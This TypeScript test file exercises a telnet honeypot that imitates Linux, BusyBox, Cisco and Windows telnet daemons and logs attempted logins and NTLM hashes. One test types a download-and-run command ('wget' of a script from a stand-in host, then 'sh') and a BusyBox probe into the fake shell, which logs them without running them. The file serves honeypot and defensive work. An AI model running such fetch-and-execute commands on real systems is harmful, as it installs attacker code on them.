// telnet over real TCP on 127.0.0.1: the opening each daemon sends (RFC 854/1091/1079/1096/1572 option
// codes written out here), netkit's wait for the client's answers, login's prompts, the password never
// echoed, the pause and "Login incorrect", the hang-up after the last try, and the fake BusyBox shell.
import { describe, expect, test } from "bun:test";
import { serviceEntries } from "../../src/catalog/index.ts";
import type { CatalogEntry } from "../../src/types.ts";
import { connect, startTestTrap } from "../helpers.ts";
import { NEGOTIATE, authenticate, le32 } from "../ntlm-client.ts";

const IAC = "\xff";
const WILL = "\xfb";
const WONT = "\xfc";
const DO = "\xfd";
const SB = "\xfa";
const SE = "\xf0";
const TTYPE = "\x18";
const TSPEED = "\x20";
const XDISPLOC = "\x23";
const NEW_ENVIRON = "\x27";
const ECHO = "\x01";
const SGA = "\x03";
const NAWS = "\x1f";
const LFLOW = "\x21";

/** Telnet bytes: one character is one byte (a JS string would go out as UTF-8). */
function bin(s: string): Uint8Array {
  return Uint8Array.from(Buffer.from(s, "latin1"));
}

function entry(id: string): CatalogEntry {
  const e = serviceEntries("telnet").find((x) => x.id === id);
  if (!e) throw new Error(`no entry ${id}`);
  return e;
}

/** What the Linux telnet client answers to netkit's opening: it will send TTYPE, TSPEED and NEW-ENVIRON, not XDISPLOC. */
const CLIENT_ANSWERS = `${IAC}${WILL}${TTYPE}${IAC}${WILL}${TSPEED}${IAC}${WONT}${XDISPLOC}${IAC}${WILL}${NEW_ENVIRON}`;
const CLIENT_VALUES = `${IAC}${SB}${TSPEED}\x0038400,38400${IAC}${SE}${IAC}${SB}${NEW_ENVIRON}\x00${IAC}${SE}${IAC}${SB}${TTYPE}\x00XTERM${IAC}${SE}`;

describe("netkit telnetd faces (Linux telnetd)", () => {
  test("the opening is the four DOs alone; the issue comes only once the client answered and gave its values", async () => {
    const { trap, sink } = startTestTrap(entry("linux-telnetd-debian11"));
    try {
      const c = await connect(trap.port);
      const opening = `${IAC}${DO}${TTYPE}${IAC}${DO}${TSPEED}${IAC}${DO}${XDISPLOC}${IAC}${DO}${NEW_ENVIRON}`;
      await c.waitFor((s) => s.length >= opening.length);
      // Typed ahead while the daemon negotiates: login reads it once it starts.
      c.send("\r\n");
      c.send(bin(CLIENT_ANSWERS));
      const asks = `${IAC}${SB}${TSPEED}\x01${IAC}${SE}${IAC}${SB}${NEW_ENVIRON}\x01${IAC}${SE}${IAC}${SB}${TTYPE}\x01${IAC}${SE}`;
      await c.waitFor((s) => s.includes(asks));
      expect(c.text()).toBe(opening + asks);
      c.send(bin(CLIENT_VALUES));
      const text = await c.waitFor((s) => s.includes("Password: "));
      expect(text).toContain("\r\nDebian GNU/Linux 11\r\n");
      const prompt = /\r\n([\w.-]+) login: /.exec(text);
      expect(prompt).not.toBeNull();
      // The empty line typed ahead was an empty user name: shadow's login asks for a password anyway.
      expect(text.endsWith(`${prompt![1]} login: \r\nPassword: `)).toBe(true);
      c.end();
      await c.closed;
    } finally {
      trap.stop();
    }
    expect(sink.of("login")).toHaveLength(0);
  });

  test("a refused login: the user echoed, the password not, a pause, Login incorrect, the prompt again; both logged", async () => {
    const { trap, sink } = startTestTrap(entry("linux-telnetd-debian11"));
    try {
      const c = await connect(trap.port);
      await c.waitFor((s) => s.length >= 12);
      c.send(bin(CLIENT_ANSWERS + CLIENT_VALUES));
      await c.waitFor((s) => s.endsWith(" login: "));
      const before = c.text().length;
      c.send("root\r\x00");
      await c.waitFor((s) => s.endsWith("Password: "));
      expect(c.text().slice(before)).toBe("root\r\nPassword: ");
      const afterPrompt = c.text().length;
      c.send("s3cret!\r\x00");
      await c.waitFor((s) => s.slice(afterPrompt).includes("Login incorrect"), 8000);
      await c.waitFor((s) => s.endsWith(" login: "), 2000);
      const reply = c.text().slice(afterPrompt);
      expect(reply).not.toContain("s3cret");
      expect(reply).toMatch(/^\r\n\r\nLogin incorrect\r\n[\w.-]+ login: $/);
      c.end();
      await c.closed;
    } finally {
      trap.stop();
    }
    const logins = sink.of("login");
    expect(logins).toHaveLength(1);
    const e = logins[0] as any;
    expect(e.user).toBe("root");
    expect(e.password).toBe("s3cret!");
    expect(e.method).toBe("telnet");
    expect(e.client).toEqual({ terminal: "XTERM" });
  });

  test("CentOS: the issue names the kernel; after the third wrong password login hangs up", async () => {
    const { trap, sink } = startTestTrap(entry("linux-telnetd-centos7"));
    try {
      const c = await connect(trap.port);
      await c.waitFor((s) => s.length >= 12);
      c.send(bin(CLIENT_ANSWERS + CLIENT_VALUES));
      const text = await c.waitFor((s) => s.endsWith(" login: "));
      expect(text).toContain("\r\nCentOS Linux 7 (Core)\r\nKernel 3.10.0-1160.el7.x86_64 on an x86_64\r\n");
      for (let i = 0; i < 3; i++) {
        c.send(`admin${i}\r\npw${i}\r\n`);
        if (i < 2) await c.waitFor((s) => s.split("Login incorrect").length === i + 2 && s.endsWith(" login: "), 8000);
      }
      await c.closed;
      expect(c.text().endsWith("Login incorrect\r\n")).toBe(true);
    } finally {
      trap.stop();
    }
    expect(sink.of("login").map((e: any) => `${e.user}:${e.password}`)).toEqual(["admin0:pw0", "admin1:pw1", "admin2:pw2"]);
  });

  test("a user name is kept to the 255 characters login reads (past them keys only ring the bell; DEL still erases)", async () => {
    const { trap, sink } = startTestTrap(entry("linux-telnetd-debian7"));
    try {
      const c = await connect(trap.port);
      await c.waitFor((s) => s.length >= 12);
      c.send(bin(CLIENT_ANSWERS + CLIENT_VALUES));
      await c.waitFor((s) => s.endsWith(" login: "));
      c.send("x".repeat(1000) + "\x1b\x01y\x7f\r\npw\r\n");
      await c.waitFor((s) => s.includes("Login incorrect"), 8000);
      c.end();
    } finally {
      trap.stop();
    }
    const e = sink.of("login")[0] as any;
    expect(e.user).toBe("x".repeat(254));
    expect(e.password).toBe("pw");
  });
});

describe("BusyBox telnetd faces", () => {
  test("the opening, the issue and the prompt at once, without waiting for answers", async () => {
    const { trap } = startTestTrap(entry("busybox-telnetd-1.19"));
    try {
      const c = await connect(trap.port);
      const text = await c.waitFor((s) => s.endsWith(" login: "));
      expect(text).toMatch(new RegExp(`^${IAC}${DO}${ECHO}${IAC}${DO}${NAWS}${IAC}${WILL}${ECHO}${IAC}${WILL}${SGA}\\r\\r\\n[\\w.-]+ login: $`));
      c.end();
    } finally {
      trap.stop();
    }
  });

  test("the second try opens a fake shell: every line is logged, nothing runs, exit hangs up", async () => {
    const { trap, sink } = startTestTrap(entry("busybox-telnetd-1.19"));
    try {
      const c = await connect(trap.port);
      await c.waitFor((s) => s.endsWith(" login: "));
      c.send("root\r\n");
      await c.waitFor((s) => s.endsWith("Password: "));
      c.send("wrong\r\n");
      await c.waitFor((s) => s.includes("Login incorrect\r\n") && s.endsWith(" login: "), 8000);
      c.send("admin\r\n");
      await c.waitFor((s) => s.split("Password: ").length === 3);
      c.send("guess\r\n");
      await c.waitFor((s) => s.endsWith("# "));
      expect(c.text()).toContain("BusyBox v1.19.4");
      let mark = c.text().length;
      c.send("/bin/busybox ECCHI\r\n");
      await c.waitFor((s) => s.length > mark && s.endsWith("# "));
      expect(c.text().slice(mark)).toBe("/bin/busybox ECCHI\r\nECCHI: applet not found\r\n# ");
      mark = c.text().length;
      c.send("cd /tmp; wget http://192.0.2.7/x.sh; sh x.sh\r\n");
      await c.waitFor((s) => s.length > mark && s.endsWith("# "));
      expect(c.text().slice(mark)).toBe("cd /tmp; wget http://192.0.2.7/x.sh; sh x.sh\r\n-sh: wget: not found\r\n# ");
      c.send("exit\r\n");
      await c.closed;
    } finally {
      trap.stop();
    }
    expect(sink.of("login").map((e: any) => `${e.user}:${e.password}`)).toEqual(["root:wrong", "admin:guess"]);
    expect(sink.of("command").map((e: any) => e.command)).toEqual(["/bin/busybox ECCHI", "cd /tmp; wget http://192.0.2.7/x.sh; sh x.sh", "exit"]);
  });

  test("telnetd -l /bin/sh: an open shell with the ash banner, at once", async () => {
    const { trap, sink } = startTestTrap(entry("busybox-1.01-openshell"));
    try {
      const c = await connect(trap.port);
      const text = await c.waitFor((s) => s.endsWith("# "));
      expect(text.startsWith(`${IAC}${DO}${ECHO}${IAC}${DO}${NAWS}${IAC}${DO}${LFLOW}${IAC}${WILL}${ECHO}${IAC}${WILL}${SGA}`)).toBe(true);
      expect(text).toContain("\r\nBusyBox v1.01 (2006.08.30-09:48+0000) Built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n");
      const mark = c.text().length;
      c.send("echo -e hello\r\n");
      await c.waitFor((s) => s.length > mark && s.endsWith("# "));
      expect(c.text().slice(mark)).toBe("echo -e hello\r\nhello\r\n# ");
      c.send("exit\r\n");
      await c.closed;
    } finally {
      trap.stop();
    }
    expect(sink.of("login")).toHaveLength(0);
    expect(sink.of("command").map((e: any) => e.command)).toEqual(["echo -e hello", "exit"]);
  });
});

describe("Cisco IOS face", () => {
  test("WILL ECHO, WILL SGA, DO TTYPE, DO NAWS and User Access Verification at once; Username/Password; % Login invalid", async () => {
    const { trap, sink } = startTestTrap(entry("cisco-ios-12.4-telnetd"));
    try {
      const c = await connect(trap.port);
      const text = await c.waitFor((s) => s.endsWith("Username: "));
      expect(text).toBe(`${IAC}${WILL}${ECHO}${IAC}${WILL}${SGA}${IAC}${DO}${TTYPE}${IAC}${DO}${NAWS}\r\n\r\nUser Access Verification\r\n\r\nUsername: `);
      const mark = text.length;
      c.send("cisco\r\n");
      await c.waitFor((s) => s.endsWith("Password: "));
      c.send("cisco\r\n");
      await c.waitFor((s) => s.slice(mark).includes("% Login invalid") && s.endsWith("Username: "), 5000);
      expect(c.text().slice(mark)).toBe("cisco\r\nPassword: \r\n% Login invalid\r\n\r\nUsername: ");
      c.end();
    } finally {
      trap.stop();
    }
    expect(sink.of("login").map((e: any) => `${e.user}:${e.password}`)).toEqual(["cisco:cisco"]);
  });
});

describe("Windows Telnet Server faces: NTLM in the AUTHENTICATION option (MS-TNAP)", () => {
  /** IAC SB AUTHENTICATION IS NTLM (client to server) command, the size and buffer type, the blob, IAC SE; 255s doubled. */
  function tnap(command: number, blob: number[]): Uint8Array {
    const body = [0x25, 0x00, 0x0f, 0x00, command, ...le32(blob.length), ...le32(2), ...blob].flatMap((b) => (b === 0xff ? [0xff, 0xff] : [b]));
    return Uint8Array.from([0xff, 0xfa, ...body, 0xff, 0xf0]);
  }

  test("windows-2003-telnetd: the opening, a CHALLENGE naming the host with 5.2.3790, the AUTHENTICATE logged as NetNTLMv2 and rejected", async () => {
    const { trap, sink } = startTestTrap(entry("windows-2003-telnetd"));
    let challenge = "";
    const nt = Array.from({ length: 48 }, (_, i) => 200 + (i % 56));
    try {
      const c = await connect(trap.port);
      const opening = `${IAC}${DO}\x25${IAC}${WILL}${ECHO}${IAC}${WILL}${SGA}${IAC}${DO}${NEW_ENVIRON}${IAC}${DO}${NAWS}${IAC}${DO}\x00${IAC}${WILL}\x00`;
      await c.waitFor((s) => s.length >= opening.length);
      expect(c.text()).toBe(opening);
      // As nmap's telnet-ntlm-info: the NEGOTIATE at once, without answering the opening.
      c.send(tnap(0, NEGOTIATE));
      const reply = await c.waitFor((s) => s.length > opening.length && s.endsWith(`${IAC}${SE}`));
      const sub = reply.slice(opening.length);
      expect(sub.startsWith(`${IAC}${SB}\x25\x02\x0f\x00\x01`)).toBe(true);
      const raw = Buffer.from(sub.slice(2, -2).replace(/\xff\xff/g, "\xff"), "latin1");
      const msg = raw.subarray(13);
      expect(raw.readUInt32LE(5)).toBe(msg.length);
      expect(msg.subarray(0, 8).toString("latin1")).toBe("NTLMSSP\0");
      expect(msg.readUInt32LE(8)).toBe(2);
      challenge = msg.subarray(24, 32).toString("hex");
      // The version field: 5.2, build 3790.
      expect([msg[48], msg[49], msg.readUInt16LE(50)]).toEqual([5, 2, 3790]);
      const targetLen = msg.readUInt16LE(12);
      const target = msg.subarray(msg.readUInt32LE(16), msg.readUInt32LE(16) + targetLen).toString("utf16le");
      expect(target).toMatch(/^[A-Z0-9-]{1,15}$/);
      const mark = c.text().length;
      c.send(tnap(2, authenticate("bob", "CORP", "WS7", nt)));
      await c.waitFor((s) => s.length > mark);
      expect(c.text().slice(mark)).toBe(`${IAC}${SB}\x25\x02\x0f\x00\x04${IAC}${SE}`);
      c.end();
    } finally {
      trap.stop();
    }
    const proof = Buffer.from(nt.slice(0, 16)).toString("hex");
    const blob = Buffer.from(nt.slice(16)).toString("hex");
    expect(sink.of("login").map((e: any) => ({ method: e.method, user: e.user, domain: e.domain, hash: e.hash, client: e.client }))).toEqual([
      { method: "telnet-ntlm", user: "bob", domain: "CORP", hash: { value: `bob::CORP:${challenge}:${proof}:${blob}`, type: "netntlmv2", hashcatMode: 5600 }, client: { workstation: "WS7" } },
    ]);
  });

  test("windows-2000-telnetd: a client that refuses authentication gets the Microsoft Telnet Service prompt and is refused", async () => {
    const { trap, sink } = startTestTrap(entry("windows-2000-telnetd"));
    try {
      const c = await connect(trap.port);
      await c.waitFor((s) => s.length >= 18);
      c.send(bin(`${IAC}${WONT}\x25${IAC}${DO}${ECHO}${IAC}${WILL}${SGA}${IAC}${WILL}${NAWS}${IAC}${WONT}\x00${IAC}${DO}\x00`));
      await c.waitFor((s) => s.endsWith("login: "));
      expect(c.text()).toContain("Welcome to Microsoft Telnet Service \r\n");
      c.send("administrator\r\n");
      await c.waitFor((s) => s.endsWith("password: "));
      c.send("P@ssw0rd\r\n");
      await c.waitFor((s) => s.includes("Logon failure: unknown user name or bad password.") && s.endsWith("login: "), 8000);
      c.end();
    } finally {
      trap.stop();
    }
    expect(sink.of("login").map((e: any) => `${e.method} ${e.user}:${e.password}`)).toEqual(["telnet administrator:P@ssw0rd"]);
  });
});

/**
 * A face at login's first prompt (a netkit face's opening answered as the Debian client answers it): runs
 * `use` with the connection and everything written up to the prompt, stops the trap, returns its events.
 */
async function atLoginPrompt(id: string, use: (c: Awaited<ReturnType<typeof connect>>, opening: string) => Promise<void>) {
  const { trap, sink } = startTestTrap(entry(id));
  try {
    const c = await connect(trap.port);
    if ((entry(id).templates as { awaitReplies?: boolean }).awaitReplies) {
      await c.waitFor((s) => s.length >= 12);
      c.send(bin(CLIENT_ANSWERS + CLIENT_VALUES));
    }
    const opening = await c.waitFor((s) => s.endsWith(" login: "));
    await use(c, opening);
    c.end();
  } finally {
    trap.stop();
  }
  return sink;
}

// What a Linux pty echoes while login reads the user name, measured on Debian 12 against BusyBox telnetd
// (built from source, `-l /bin/login`) with shadow's login. The prompt was "vm login: " there; the tab
// case is recomputed for the face's prompt.
describe("the pty's line discipline on Linux faces (n_tty)", () => {
  const cases: Array<[string, string, string]> = [
    ["a control key echoes as ^X", "ab\x08c", "ab^Hc"],
    ["^W takes the last word", "ab cd\x17", "ab cd\b \b\b \b"],
    ["^R reprints the line", "a\x12", "a^R\r\na"],
    ["a NUL echoes as ^@", "a\x00b", "a^@b"],
    ["^V quotes the next key", "a\x16\x01b", "a^\b^Ab"],
    ["DEL rubs out the two columns of ^A", "a\x01\x7f\x7fb", "a^A\b \b\b \b\b \bb"],
    ["^S and ^Q are flow control, not echoed", "a\x13b\x11c", "abc"],
    ["^U rubs out the whole line", "abc\x15d", "abc\b \b\b \b\b \bd"],
    ["a quoted DEL echoes as ^?", "x\x16\x7fb", "x^\b^?b"],
    ["an escape sequence echoes as typed keys", "\x1b[A", "^[[A"],
    ["^C echoes and flushes what was not sent yet; login goes on", "ab\x03", "^C"],
  ];
  for (const [what, typed, echoed] of cases) {
    test(`${what}`, async () => {
      await atLoginPrompt("busybox-telnetd-1.19", async (c, opening) => {
        c.send(bin(typed));
        await c.waitFor((s) => s.length >= opening.length + echoed.length);
        await Bun.sleep(150);
        expect(c.text().slice(opening.length)).toBe(echoed);
      });
    });
  }

  test("a tab goes to the next stop of 8 from where the prompt left the cursor, and DEL takes it back with backspaces", async () => {
    await atLoginPrompt("linux-telnetd-debian11", async (c, opening) => {
      const column = opening.length - Math.max(opening.lastIndexOf("\r"), opening.lastIndexOf("\n")) - 1;
      const spaces = 8 - ((column + 1) % 8);
      c.send("a\tb\x7f\x7fc");
      await c.waitFor((s) => s.endsWith("c"));
      expect(c.text().slice(opening.length)).toBe("a" + " ".repeat(spaces) + "b\b \b" + "\b".repeat(spaces) + "c");
    });
  });

  test("netkit: ^C is echoed, then login dies of it and the connection ends (measured on inetutils telnetd)", async () => {
    await atLoginPrompt("linux-telnetd-debian11", async (c, opening) => {
      c.send("ab\x03");
      await c.closed;
      expect(c.text().slice(opening.length)).toBe("^C");
    });
  });

  test("BusyBox: after ^C the same connection still logs in, with the user typed after it", async () => {
    const sink = await atLoginPrompt("busybox-telnetd-1.19", async (c) => {
      c.send("ab\x03");
      await c.waitFor((s) => s.endsWith("^C"));
      c.send("root\r\n");
      await c.waitFor((s) => s.endsWith("Password: "));
      c.send("hunter2\r\n");
      await c.waitFor((s) => s.includes("hunter2") || s.endsWith("Password: "));
      await Bun.sleep(100);
    });
    expect(sink.of("login").map((e: any) => `${e.user}:${e.password}`)).toEqual(["root:hunter2"]);
  });
});

describe("BusyBox's IAC reading", () => {
  test("option requests from the client go unanswered; another subnegotiation's body reaches login as typed input", async () => {
    await atLoginPrompt("busybox-telnetd-1.19", async (c, opening) => {
      c.send(bin(`${IAC}${DO}${TTYPE}${IAC}${WILL}${TTYPE}${IAC}${DO}\x05`));
      await Bun.sleep(200);
      expect(c.text()).toBe(opening);
      // IAC SB TTYPE is skipped as three bytes; "\0xterm" is typed; IAC SE and the next byte are skipped.
      c.send(bin(`${IAC}${SB}${TTYPE}\x00xterm${IAC}${SE}a`));
      await c.waitFor((s) => s.endsWith("xterm"));
      // IAC NOP is skipped, IAC IAC is a 255 (echoed doubled), a window size is read whole.
      c.send(bin(`${IAC}\xf1b${IAC}${IAC}c${IAC}${SB}${NAWS}\x00\x50\x00\x18${IAC}${SE}d`));
      await c.waitFor((s) => s.endsWith("d"));
      expect(c.text().slice(opening.length)).toBe("^@xtermb\xff\xffcd");
    });
  });

  test("nmap's telnet-ntlm-info packet is echoed back by the tty at once, as the real daemon does (nmap does not wait out its timeout)", async () => {
    await atLoginPrompt("busybox-telnetd-1.19", async (c, opening) => {
      const blob = "NTLMSSP\x00\x01\x00\x00\x00" + "\x00".repeat(24);
      c.send(bin(`${IAC}${SB}\x25\x00\x0f\x00\x00${String.fromCharCode(blob.length)}\x00\x00\x00${blob}${IAC}${SE}`));
      await c.waitFor((s) => s.length > opening.length + 40);
      expect(c.text().slice(opening.length)).toBe("^@^O^@^@$^@^@^@NTLMSSP^@^A" + "^@".repeat(27));
    });
  });
});
